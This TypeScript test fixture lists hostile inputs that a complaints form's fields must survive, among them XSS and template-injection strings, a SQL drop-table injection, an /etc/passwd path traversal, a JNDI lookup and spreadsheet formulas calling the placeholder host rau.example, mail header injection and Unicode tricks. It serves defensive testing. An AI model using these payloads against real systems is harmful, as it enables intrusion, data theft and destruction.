/** A text that a form gets in every field. `shown`: what staff read of it; none = it is refused, field by field. */
export type HostileText = { what: string; text: string; shown?: string }

const kept = (what: string, text: string, shown = text): HostileText => ({ what, text, shown })
const refused = (what: string, text: string): HostileText => ({ what, text })

export const hostileTexts: readonly HostileText[] = [
  kept('a script', '<script>alert(1)</script>'),
  kept('a picture that fails', '<img src=x onerror=alert(1)>'),
  kept('a drawing that loads', '<svg/onload=alert(1)>'),
  kept('the end of an attribute', '"><img src=x onerror=alert(1)>'),
  kept('the end of a script', '</script><script>alert(1)</script>'),
  kept('an address that runs', 'javascript:alert(1)//'),
  kept('what a template would read', '{{constructor.constructor("alert(1)")()}} $' + '{alert(1)} <%= 1 %>'),
  kept('places of our own letters', '{number} {institution} {code} {until}'),
  kept(
    'a style that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ),
  kept('a comment that mutates', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  kept('signs already written as entities', '&lt;script&gt;alert(1)&lt;/script&gt;'),
  kept('a form for passwords', '<form action="https://rau.example"><input name="password"></form>'),
  kept('a way out of SQL', `'; drop table complaints; --`),
  kept('a path of the server', '../../../../etc/passwd'),
  kept('a look-up of a logger', '$' + '{jndi:ldap://rau.example/a}'),
  kept('a header of a mail', 'Ana\r\nBcc: victima@rau.example\r\n\r\nCorp'),
  kept('an encoded header of a mail', 'Ana =?utf-8?Q?=0D=0ABcc:_victima@rau.example?='),
  kept('a formula', '=HYPERLINK("http://rau.example/?"&A1,"x")'),
  kept('a formula behind an unseen sign', '\u200b@SUM(1)'),
  kept('a formula that starts a program', `+cmd|'/C calc'!A0`),
  kept('writing turned round', 'Ion \u202ependisfac\u202c Pop', 'Ion pendisfac Pop'),
  kept('writing set apart', '\u2067Ion\u2069 \u200fPop', 'Ion Pop'),
  kept('a letter under a hundred marks', `I${'\u0301'.repeat(100)}on`.normalize('NFC')),
  kept('a family in one sign', '👩‍👩‍👧‍👦 Pop'),
  refused('a zero', 'Ion\0Pop'),
  refused('an escape of a terminal', '\u001b[31mIon'),
  refused('a control sign of the second set', 'Ion\u0085Pop'),
  refused('half a letter', 'Ion\ud800'),
]
